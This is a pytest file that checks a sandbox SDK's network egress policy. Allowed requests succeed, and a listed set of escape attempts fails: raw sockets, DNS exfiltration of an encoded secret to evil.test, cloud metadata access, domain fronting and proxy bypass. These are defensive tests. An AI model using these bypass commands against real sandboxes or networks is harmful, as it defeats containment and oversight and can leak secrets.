"""A sandbox with a policy: what is allowed works, and every other way out is closed."""

import asyncio
import shlex
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from examples.demo.index import find_index
from sandbox_sdk import Sandbox, SandboxGroup, ToolCallError
from tests.fakes import eventually
from tests.services.web import ADDRESS, Answer, Request, Web

pytestmark = [pytest.mark.docker, pytest.mark.slow]

PYTHON = "python3 -c {}"


@pytest.fixture
async def sandbox(docker_state_dir: Path, web: Web) -> AsyncIterator[Sandbox]:
    web.text("/", "<h1>Reached</h1>")
    async with (
        SandboxGroup(state_dir=docker_state_dir, egress_policy=web.policy()) as group,
        await group.create_sandbox() as started,
    ):
        yield started


async def run(sandbox: Sandbox, command: str) -> tuple[int | None, str]:
    result = await sandbox.terminal.run(command, timeout_s=60)
    return result.exit_code, result.stdout + result.stderr


async def test_programs_reach_what_is_allowed_without_knowing_how(
    sandbox: Sandbox, web: Web
) -> None:
    urllib = f"import urllib.request as u; print(u.urlopen({web.url('/', tls=True)!r}).read())"
    programs = [
        f"curl -sS {web.url()}",
        f"curl -sS {web.url('/', tls=True)}",
        f"curl -sS --proxy socks5h://127.0.0.1:3128 {web.url('/', tls=True)}",
        PYTHON.format(shlex.quote(urllib)),
    ]
    for command in programs:
        exit_code, output = await run(sandbox, command)
        assert (exit_code, "Reached" in output) == (0, True), f"{command}: {output}"

    assert len(web.seen) == len(programs)
    assert all(each.allowed for each in sandbox.egress.log())


async def test_a_repository_is_cloned(sandbox: Sandbox, web: Web, tmp_path: Path) -> None:
    bare = tmp_path / "project.git"
    script = f"""
        git init -q --bare {bare} && git init -q {tmp_path}/work && cd {tmp_path}/work &&
        git config user.email a@b.test && git config user.name A && echo hello > file &&
        git add file && git commit -qm one && git push -q {bare} HEAD:refs/heads/main &&
        git -C {bare} symbolic-ref HEAD refs/heads/main && git -C {bare} update-server-info
    """
    process = await asyncio.create_subprocess_shell(script)
    assert await process.wait() == 0

    def serve(request: Request) -> Answer:
        file = bare / request.path.removeprefix("/project.git/")
        return Answer(file.read_bytes()) if file.is_file() else Answer(status=404)

    web.route("/project.git/", serve)

    cloned = await run(
        sandbox, f"git clone -q {web.url('/project.git', tls=True)} && cat project/file"
    )

    assert cloned == (0, "hello\n")


def raw(code: str) -> str:
    return PYTHON.format(shlex.quote(f"import socket as s\n{code}"))


WAYS_AROUND = {
    "the host's own port": raw("s.create_connection(('127.0.0.1', {port}), 3)"),
    "the engine's bridge": raw("s.create_connection(('172.17.0.1', {port}), 3)"),
    "the Internet": raw("s.create_connection(('1.1.1.1', 443), 3)"),
    "IPv6": raw("s.create_connection(('2606:4700:4700::1111', 443), 3)"),
    "the host's IPv6 loopback": raw("s.create_connection(('::1', {port}), 3)"),
    "a name service by UDP": raw(
        "u = s.socket(s.AF_INET, s.SOCK_DGRAM); u.sendto(b'x', ('8.8.8.8', 53))"
    ),
    "looking up a name": raw("s.getaddrinfo('site.test', 80)"),
    "looking up a secret": raw("s.getaddrinfo('c2VjcmV0.evil.test', 80)"),
    "raw packets": raw("s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP)"),
    "frames": raw("s.socket(s.AF_PACKET, s.SOCK_RAW)"),
    "virtual machine sockets": raw("s.socket(s.AF_VSOCK, s.SOCK_STREAM).connect((2, 22))"),
    "no proxy": "curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/",
    "no proxy and a known address": (
        "curl -sS -m 5 --noproxy '*' --resolve site.test:{port}:172.17.0.1 http://site.test:{port}/"
    ),
}


async def test_there_is_no_way_around_the_proxy(sandbox: Sandbox, web: Web) -> None:
    reached = {}
    for way, command in WAYS_AROUND.items():
        exit_code, output = await run(sandbox, command.replace("{port}", str(web.port)))
        if exit_code == 0 or web.seen:
            reached[way] = output

    assert reached == {}
    assert sandbox.egress.log() == ()


PROXIED = {
    "another host": ("curl -sS http://evil.test:{port}/", "not_allowed"),
    "another host by TLS": ("curl -sS https://evil.test:{tls}/", "not_allowed"),
    "an address": ("curl -sS --noproxy '' http://127.0.0.1:{port}/", "not_allowed"),
    "a metadata service": ("curl -sS http://169.254.169.254/latest/meta-data/", "not_allowed"),
    "another port": ("curl -sS http://site.test:22/", "port"),
    "fronting": (
        "curl -sSk --connect-to evil.test:{tls}:site.test:{tls} https://evil.test:{tls}/",
        "server_name",
    ),
    "plain words in a tunnel": ("curl -sSp http://site.test:{port}/", "not_tls"),
    "SOCKS": ("curl -sS --proxy socks5h://127.0.0.1:3128 https://evil.test:{tls}/", "not_allowed"),
}


async def test_the_proxy_refuses_and_the_log_says_why(sandbox: Sandbox, web: Web) -> None:
    outcomes = {}
    for way, (command, _) in PROXIED.items():
        command = command.replace("{port}", str(web.port)).replace("{tls}", str(web.tls_port))
        exit_code, _ = await run(sandbox, f"{command} -m 10 -f")
        last = sandbox.egress.log()[-1]
        outcomes[way] = (exit_code == 0, last.allowed, str(last.reason))

    assert outcomes == {way: (False, False, reason) for way, (_, reason) in PROXIED.items()}
    assert len(sandbox.egress.log()) == len(PROXIED)
    assert web.seen == []


async def test_a_sandbox_finds_no_socket_but_its_own(sandbox: Sandbox) -> None:
    _, sockets = await run(sandbox, "find / -type s -not -path '/proc/*' 2>/dev/null | sort")

    assert set(sockets.split()) <= {
        "/run/sandbox/egress/egress.sock",
        "/run/sandbox/control/action.sock",
    }


async def test_a_policy_changes_while_programs_run(sandbox: Sandbox, web: Web) -> None:
    pouring = asyncio.Event()
    loop = asyncio.get_running_loop()

    def endless(_request: Request) -> Answer:
        def pieces():
            yield b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000000\r\n\r\n"
            loop.call_soon_threadsafe(pouring.set)
            while True:
                yield b"x" * 65_536

        return Answer(raw=pieces())

    web.route("/endless", endless)
    running = asyncio.create_task(run(sandbox, f"curl -sS {web.url('/endless')} -o /dev/null"))
    await asyncio.wait_for(pouring.wait(), 20)

    await sandbox.egress.set_policy(web.policy(allow=["other.test"]))

    exit_code, _ = await asyncio.wait_for(running, 20)
    assert exit_code != 0
    with pytest.raises(ToolCallError) as refused:
        await sandbox.web.fetch(web.url())
    assert refused.value.code == "EGRESS_DENIED"
    await sandbox.egress.set_policy(web.policy())
    assert "Reached" in (await sandbox.web.fetch(web.url(), mode="full")).content


async def test_a_secret_reaches_its_host_and_nobody_inside(
    docker_state_dir: Path, web: Web
) -> None:
    web.text("/", "ok")
    headers = {"host": "site.test", "headers": {"Authorization": "Bearer s3cret"}, "tls": False}
    async with (
        SandboxGroup(
            state_dir=docker_state_dir, egress_policy=web.policy(inject=[headers])
        ) as group,
        await group.create_sandbox() as sandbox,
    ):
        await run(sandbox, f"curl -sS {web.url()} {web.url(host='other.test')}")
        _, seen = await run(sandbox, "env; grep -rs s3cre[t] /workspace /run /tmp /etc; true")

    assert [each.headers.get("authorization") for each in web.seen] == ["Bearer s3cret", None]
    assert "s3cret" not in seen


async def test_a_sandbox_keeps_its_own_policy_over_a_restart(
    docker_state_dir: Path, web: Web
) -> None:
    web.text("/", "<p>Reached</p>")
    settings = {"state_dir": docker_state_dir, "ephemeral": False, "egress_policy": web.policy()}
    async with SandboxGroup(**settings) as group:
        kept = await group.create_sandbox(egress_policy=web.policy(allow=["other.test"]))
        broken = await group.create_sandbox(egress_policy=web.policy())
        await kept.start()
        await broken.start()
    (docker_state_dir / "egress" / f"{broken.id}.json").write_text("{")

    async with SandboxGroup(**settings) as group:
        for sandbox_id, reason in ((kept.id, "not_allowed"), (broken.id, "no_policy")):
            again = await group.get_sandbox(sandbox_id)
            exit_code, _ = await run(again, f"curl -sSf {web.url()}")
            assert exit_code != 0
            assert [each.reason for each in again.egress.log()] == [reason]
            await again.end()

    await eventually(lambda: not list((docker_state_dir / "egress").glob("*.json")))


async def test_an_index_alone_is_enough_for_pip(
    docker_state_dir: Path, web: Web, tmp_path: Path
) -> None:
    """That of the host; where it cannot be reached, one of our own."""
    index = await asyncio.to_thread(find_index, web)
    authorities = tmp_path / "authorities.pem"
    authorities.write_text(web.ca_file.read_text() + index.certificates)
    policy = {
        "allow": list(index.allow),
        "private_networks": list(index.networks),
        "hosts": {"site.test": ADDRESS},
        "ca_file": authorities,
    }
    async with (
        SandboxGroup(state_dir=docker_state_dir, egress_policy=policy) as group,
        await group.create_sandbox() as sandbox,
    ):
        installed = await run(sandbox, f"pip install -q --index-url {index.url} {index.package}")
        used = await run(sandbox, f"python3 -c 'import {index.package}'")
        log = sandbox.egress.log()
        refused = await run(sandbox, f"curl -sSf {web.url(host='evil.test')}")

    assert installed[0] == 0, installed[1]
    assert used[0] == 0, used[1]
    assert log
    assert all(each.allowed for each in log)
    assert refused[0] != 0
